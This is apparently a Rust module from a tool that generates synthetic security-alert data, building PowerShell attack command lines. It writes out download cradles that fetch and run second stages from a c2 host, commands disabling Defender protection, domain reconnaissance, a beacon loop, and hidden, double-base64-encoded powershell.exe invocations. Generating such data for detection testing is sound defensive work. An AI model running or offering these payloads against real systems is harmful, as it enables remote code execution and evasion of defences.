//! PowerShell payloads as attackers ship them: scripts encoded for `-EncodedCommand` (base64 of
//! UTF-16LE, exactly what powershell.exe decodes), sometimes wrapped in a second encoded layer.

use crate::rng::Rng;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;

/// Base64 of the UTF-16LE bytes of `script`: the `-EncodedCommand` argument.
pub fn encode_command(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    STANDARD.encode(bytes)
}

/// Base64 of UTF-8 text (OSC 52 payloads, certutil-style blobs).
pub fn base64_utf8(text: &str) -> String {
    STANDARD.encode(text.as_bytes())
}

/// What a payload script does; picked to fit the alert.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Script {
    /// Download cradle: fetch and run a second stage.
    Cradle,
    /// Turn off Defender's real-time protection.
    DisableDefender,
    /// Enumerate the domain.
    Recon,
    /// Reflective loader beaconing out.
    Beacon,
}

/// A script of the given kind aimed at `c2` (a host or IP) on `host`.
pub fn script(rng: &mut Rng, kind: Script, c2: &str, host: &str) -> String {
    let stage = rng.pick(&["a.ps1", "update.ps1", "s", "load.txt", "wp-content/x.png"]);
    match kind {
        Script::Cradle => match rng.below(3) {
            0 => format!("IEX (New-Object Net.WebClient).DownloadString('http://{c2}/{stage}')"),
            1 => format!(
                "$w=New-Object System.Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('https://{c2}/{stage}')"
            ),
            _ => format!(
                "Invoke-WebRequest -Uri https://{c2}/{stage} -OutFile $env:TEMP\\u.ps1; & $env:TEMP\\u.ps1"
            ),
        },
        Script::DisableDefender => "Set-MpPreference -DisableRealtimeMonitoring $true; Set-MpPreference -ExclusionPath 'C:\\ProgramData'; Add-MpPreference -ExclusionExtension '.dll'".to_string(),
        Script::Recon => format!(
            "Get-ADComputer -Filter * -Properties OperatingSystem | Select Name,OperatingSystem | Export-Csv C:\\Users\\Public\\c.csv; nltest /dclist:contoso; Test-NetConnection {host} -Port 445"
        ),
        Script::Beacon => format!(
            "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAKtWKkktLlGyUlAqS8wpTVWqBQBvGgXPEwAAAA=='));$d=New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress);while($true){{try{{IEX (iwr https://{c2}/jquery-3.3.1.min.js -UseBasicParsing).Content}}catch{{}};Start-Sleep -s 60}}"
        ),
    }
}

/// A full `powershell.exe` command line running `script` encoded, twice over when `nested`.
pub fn encoded_command_line(rng: &mut Rng, script: &str, nested: bool) -> String {
    let switch = *rng.pick(&["-EncodedCommand", "-enc", "-e", "-ec", "-EncodedC", "-eNc"]);
    let prefix = *rng.pick(&[
        "powershell.exe -NoP -NonI -W Hidden",
        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden",
        "powershell -ExecutionPolicy Bypass -NoProfile",
        "powershell.exe -noni -nop -w 1",
    ]);
    let inner = if nested {
        format!("powershell -nop -w hidden -enc {}", encode_command(script))
    } else {
        script.to_string()
    };
    format!("{prefix} {switch} {}", encode_command(&inner))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decode_utf16(b64: &str) -> String {
        let bytes = STANDARD.decode(b64).expect("valid base64");
        let units: Vec<u16> = bytes
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]))
            .collect();
        String::from_utf16(&units).expect("valid UTF-16")
    }

    #[test]
    fn encoded_command_is_utf16le_base64() {
        // The value powershell.exe itself produces for this script.
        assert_eq!(encode_command("whoami"), "dwBoAG8AYQBtAGkA");
        assert_eq!(decode_utf16(&encode_command("IEX 'é'")), "IEX 'é'");
    }

    #[test]
    fn nested_payload_decodes_twice_to_the_script() {
        let mut rng = Rng::new(5);
        let s = script(
            &mut rng,
            Script::Cradle,
            "cdn.example-update.com",
            "srv-file-01",
        );
        let line = encoded_command_line(&mut rng, &s, true);
        let outer = line.rsplit(' ').next().expect("last argument");
        let layer1 = decode_utf16(outer);
        assert!(
            layer1.starts_with("powershell -nop -w hidden -enc "),
            "{layer1}"
        );
        let inner = layer1.rsplit(' ').next().expect("inner argument");
        assert_eq!(decode_utf16(inner), s);

        let single = encoded_command_line(&mut rng, &s, false);
        assert_eq!(decode_utf16(single.rsplit(' ').next().expect("arg")), s);
    }
}
